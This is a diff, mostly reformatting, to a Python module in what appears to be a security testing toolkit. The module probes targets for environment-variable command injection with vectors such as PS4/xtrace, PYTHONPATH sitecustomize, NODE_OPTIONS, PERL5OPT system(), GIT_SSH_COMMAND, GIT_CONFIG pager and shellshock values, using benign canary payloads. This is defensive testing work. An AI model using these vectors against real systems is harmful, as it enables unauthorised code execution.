@@ -9,7 +9,7 @@ from pathlib import Path
 from typing import Any
 
 from attacks.base import AttackContext, AttackSpec, Target, register, take
-from toolkit.model import Finding, Severity
+from toolkit.core.model import Finding, Severity
 
 LOADER_MARKS = ("cannot be preloaded", "cannot be loaded as audit interface", "ld.so:")
 
@@ -39,7 +39,13 @@ def build_kit(ctx: AttackContext) -> Kit:
     (folder / "py").mkdir()
     side = folder / "side-effect"
     body = f"#!/bin/sh\necho toolkit-hijack $(({a}*{b}))\ntouch {side}\n"
-    commands = set(ctx.contract.raw.get("policy", {}).get("allowed_commands", [])) | {"ls", "cat", "echo", "git", "env"}
+    commands = set(ctx.contract.raw.get("policy", {}).get("allowed_commands", [])) | {
+        "ls",
+        "cat",
+        "echo",
+        "git",
+        "env",
+    }
     for cmd in commands:
         if "/" not in cmd:
             exe = folder / "bin" / cmd
@@ -49,7 +55,9 @@ def build_kit(ctx: AttackContext) -> Kit:
     script.write_text(body)
     (folder / "py" / "sitecustomize.py").write_text(
         f"import pathlib\npathlib.Path({str(side)!r}).touch()\nprint('toolkit-hijack', {a}*{b})\n")
-    (folder / "hook.js").write_text(f"require('fs').writeFileSync({str(side)!r}, '');console.log({a}*{b});\n")
+    (folder / "hook.js").write_text(
+        f"require('fs').writeFileSync({str(side)!r}, '');console.log({a}*{b});\n"
+    )
     return Kit(folder, str(a * b), side, script)
 
 
@@ -63,13 +71,18 @@ def corpus(kit: Kit) -> Iterator[Probe]:
     yield Probe({"ENV": s}, p, "ENV (POSIX sh startup)")
     yield Probe({"PS4": f"$({s})", "SHELLOPTS": "xtrace"}, p, "PS4 with SHELLOPTS=xtrace")
     yield Probe({"PYTHONPATH": f"{d}/py"}, p, "PYTHONPATH sitecustomize")
-    yield Probe({"PYTHONSTARTUP": f"{d}/py/sitecustomize.py", "PYTHONINSPECT": "1"}, p, "PYTHONSTARTUP")
+    yield Probe(
+        {"PYTHONSTARTUP": f"{d}/py/sitecustomize.py", "PYTHONINSPECT": "1"}, p, "PYTHONSTARTUP"
+    )
     yield Probe({"NODE_OPTIONS": f"--require {d}/hook.js"}, p, "NODE_OPTIONS --require")
     yield Probe({"PERL5OPT": f"-Mstrict;system(q({s}))"}, p, "PERL5OPT")
     yield Probe({"RUBYOPT": f"-r{d}/hook.rb"}, p, "RUBYOPT")
     yield Probe({"GIT_SSH_COMMAND": s}, p, "GIT_SSH_COMMAND")
-    yield Probe({"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager", "GIT_CONFIG_VALUE_0": s}, p,
-                "GIT_CONFIG_* injection")
+    yield Probe(
+        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager", "GIT_CONFIG_VALUE_0": s},
+        p,
+        "GIT_CONFIG_* injection",
+    )
     yield Probe({"TZ": f"() {{ :;}}; {s}"}, p, "shellshock function value")
     yield Probe({"LANG": f"() {{ :;}}; {s}"}, p, "shellshock in an allowed name")
 
@@ -98,12 +111,21 @@ class EnvironmentInjection:
         cmd = _command(ctx)
         for probe in take(corpus(kit), ctx.limit):
             payload = _wrap(cls, probe.env, cmd)
-            reply, found = ctx.probe(self.spec, target, cls, payload, probe.tokens, probe.why, "env")
+            reply, found = ctx.probe(
+                self.spec, target, cls, payload, probe.tokens, probe.why, "env"
+            )
             if found:
                 yield found
             elif kit.side.exists():
-                yield ctx.finding(self.spec, target, cls, payload, reply,
-                                  f"{probe.why}: hijack side-effect file was created", f"env-side:{probe.why}")
+                yield ctx.finding(
+                    self.spec,
+                    target,
+                    cls,
+                    payload,
+                    reply,
+                    f"{probe.why}: hijack side-effect file was created",
+                    f"env-side:{probe.why}",
+                )
                 kit.side.unlink()
 
 
